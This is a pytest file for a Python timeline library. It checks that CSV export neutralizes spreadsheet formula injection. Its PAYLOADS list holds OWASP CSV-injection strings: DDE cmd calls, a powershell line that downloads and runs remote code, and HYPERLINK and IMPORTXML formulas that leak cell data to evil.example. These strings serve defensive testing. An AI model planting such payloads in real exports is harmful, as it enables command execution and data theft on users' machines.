"""The CSV export is safe to open in a spreadsheet (OWASP CSV injection).

Event text comes from arbitrary documents, so a sentence or a description may start with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return, which a spreadsheet runs as a
formula.  ``to_csv()`` neutralizes every such text cell with a leading ``'`` and leaves
every other cell as ``to_dataframe()`` has it; ``neutralize_formulas=False`` turns it off.
"""

from __future__ import annotations

import io
from datetime import date

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from timeline import Timeline, extract_timeline
from timeline.timeline import COLUMNS, FORMULA_PREFIXES, neutralize_cell

#: What a spreadsheet runs as a formula when a cell starts with it (OWASP).
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")

#: OWASP CSV-injection payloads, plus DDE variants.
PAYLOADS = (
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)",
    "-2+3",
    "@SUM(1)",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "\t=1",
    "\r=1",
    "=1+1",
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    "@cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
    "+cmd|' /C notepad'!'E1'",
    "-cmd|' /C calc'!A0",
    "=cmd|'/C calc.exe'!Z0",
    "=IMPORTXML(CONCAT(\"http://evil.example/?\", A1), \"//a\")",
)


def _texts(payload: str) -> list[str]:
    """Texts that put ``payload`` at the start of a sentence and of a description."""
    return [
        f"{payload} was enacted in December.",
        f"Officials said on Monday. {payload} rose last year.",
        f"{payload} will meet next week, and {payload} was arrested in 2019.",
        f"In March 2020 the law was passed.\n{payload} has fallen since January.",
    ]


CASES = [(p, t) for p in PAYLOADS for t in _texts(p)]


def _read_back(csv_text: str) -> pd.DataFrame:
    return pd.read_csv(io.StringIO(csv_text), dtype=str, keep_default_na=False)


def _frame_as_text(tl: Timeline) -> list[dict[str, str]]:
    """``to_dataframe()`` with each cell as the text the CSV should hold before neutralizing."""
    frame = tl.to_dataframe()
    rows: list[dict[str, str]] = []
    for record in frame.to_dict("records"):
        row: dict[str, str] = {}
        for column in COLUMNS:
            row[column] = _cell_text(record[column])
        rows.append(row)
    return rows


def _cell_text(value: object) -> str:
    if value is None or value is pd.NaT:
        return ""
    if isinstance(value, float) and np.isnan(value):
        return ""
    if isinstance(value, pd.Timestamp | np.datetime64):
        stamp = pd.Timestamp(value)
        return stamp.date().isoformat()
    if isinstance(value, date):
        return value.isoformat()
    if isinstance(value, np.integer):
        return str(int(value))
    return str(value)


def _check_safe(tl: Timeline) -> int:
    """Assert the CSV is safe and otherwise faithful; return how many cells were neutralized."""
    csv_text = tl.to_csv()
    assert isinstance(csv_text, str)
    back = _read_back(csv_text)
    assert list(back.columns) == list(COLUMNS)
    expected = _frame_as_text(tl)
    assert len(back) == len(expected)
    neutralized = 0
    for got, want in zip(back.to_dict("records"), expected, strict=True):
        for column in COLUMNS:
            cell, original = got[column], want[column]
            assert not cell.startswith(DANGEROUS), f"{column}: {cell!r} runs as a formula"
            if original.startswith(FORMULA_PREFIXES):
                assert cell == "'" + original, (column, cell, original)
                neutralized += 1
            else:
                assert cell == original, (column, cell, original)
    return neutralized


def test_library_prefixes_cover_owasp() -> None:
    assert set(DANGEROUS) <= set(FORMULA_PREFIXES)


@pytest.mark.parametrize(
    "text",
    [
        "Officials said \r=1+1 rose in December.",
        "Officials said \r=cmd|' /C calc'!A0 rose in December.",
        "Officials said \r@SUM(1) rose in December, and \r-2+3 fell last year.",
        "Officials said \r\n=1+1 rose in December.",
    ],
    ids=repr,
)
def test_carriage_return_inside_a_cell_cannot_start_a_row(text: str) -> None:
    # A bare CR inside a cell ends the row for pandas, Excel and LibreOffice unless the
    # cell is quoted: the rest of the sentence would become a new row whose first cell
    # starts with the payload, bypassing the neutralizing.
    tl = extract_timeline(text, published="2021-03-30")
    assert tl.events
    _check_safe(tl)


@pytest.mark.parametrize(("payload", "text"), CASES, ids=[repr(t)[:60] for _, t in CASES])
def test_payloads_are_neutralized(payload: str, text: str) -> None:
    tl = extract_timeline(text, published="2021-03-30")
    assert tl.events, "the payload must land in an event's cells for the test to mean anything"
    _check_safe(tl)


@pytest.mark.parametrize("payload", PAYLOADS, ids=repr)
def test_payloads_reach_the_cells(payload: str) -> None:
    # Not vacuous: for each payload some cell really started with a formula prefix.
    count = 0
    for text in _texts(payload):
        count += _check_safe(extract_timeline(text, published="2021-03-30"))
    assert count > 0


def test_neutralizing_can_be_turned_off() -> None:
    text = "=1+1 was enacted in December. @SUM(1) rose last year."
    tl = extract_timeline(text, published="2021-03-30")
    raw = tl.to_csv(neutralize_formulas=False)
    assert isinstance(raw, str)
    back = _read_back(raw)
    expected = _frame_as_text(tl)
    assert back.to_dict("records") == expected
    sentences = set(back["sentence"])
    assert "=1+1 was enacted in December." in sentences
    assert "@SUM(1) rose last year." in sentences


def test_csv_file_and_buffer_are_neutralized_too(tmp_path: object) -> None:
    from pathlib import Path

    assert isinstance(tmp_path, Path)
    tl = extract_timeline("=1+1 was enacted in December.", published="2021-03-30")
    path = tmp_path / "out.csv"
    tl.to_csv(path)
    buffer = io.StringIO()
    tl.to_csv(buffer)
    # the CSV has RFC 4180 line ends (CRLF): read the file without newline translation
    for text in (path.read_bytes().decode("utf-8"), buffer.getvalue()):
        assert text == tl.to_csv()
        assert "'=1+1 was enacted in December." in set(_read_back(text)["sentence"])


@settings(max_examples=100, deadline=None)
@given(
    prefix=st.sampled_from((*DANGEROUS, "|", "%", "'", " ", "")),
    body=st.text(st.characters(exclude_categories=["Cs"]), max_size=20),
    phrase=st.sampled_from(["in December", "last year", "since 2019", "on Monday"]),
)
def test_any_formula_prefix_is_neutralized(prefix: str, body: str, phrase: str) -> None:
    text = f"{prefix}{body} was enacted {phrase}. Officials said {prefix}{body} rose {phrase}."
    _check_safe(extract_timeline(text, published="2021-03-30"))


# ------------------------------------------------------------- the helper


@pytest.mark.parametrize("value", [*PAYLOADS, "=", "+", "-", "@", "\t", "\r", "-5"])
def test_neutralize_cell_prefixes_formulas(value: str) -> None:
    assert neutralize_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["", "Mexico enacted a law", "2020-12", "'=1", " plain", "a=b", "1+1", "£5", "é=1"]
)
def test_neutralize_cell_leaves_text_alone(value: str) -> None:
    assert neutralize_cell(value) == value
